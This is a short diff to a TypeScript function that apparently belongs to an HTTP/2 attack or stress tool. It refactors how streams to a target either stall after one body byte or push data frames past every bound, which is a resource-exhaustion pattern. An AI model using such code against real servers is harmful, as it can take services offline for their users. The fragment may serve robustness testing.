@@ -202,9 +202,11 @@ async function unfinished(run: AttackRun, socket: TLSSocket | undefined, streams
     const path = [paths.sync, paths.ping, paths.head, paths.fill][(stream >> 1) % 4] ?? paths.sync;
     run.send(socket, requestFrame(stream, headersOf(path, headersFor(run.target, path)), endHeaders));
     // Half of the bodies grow past every bound, the others stop after a byte.
-    const isShort = (stream >> 1) % 8 < 4;
-    if (isShort) run.send(socket, dataFrame(stream, piece.subarray(0, 1)));
-    for (let sent = 0; sent < 8 && !isShort && !run.isOver; sent += 1) {
+    if ((stream >> 1) % 8 < 4) {
+      run.send(socket, dataFrame(stream, piece.subarray(0, 1)));
+      continue;
+    }
+    for (let sent = 0; sent < 8 && !run.isOver; sent += 1) {
       if (!(await run.push(socket, dataFrame(stream, piece)))) return;
     }
   }
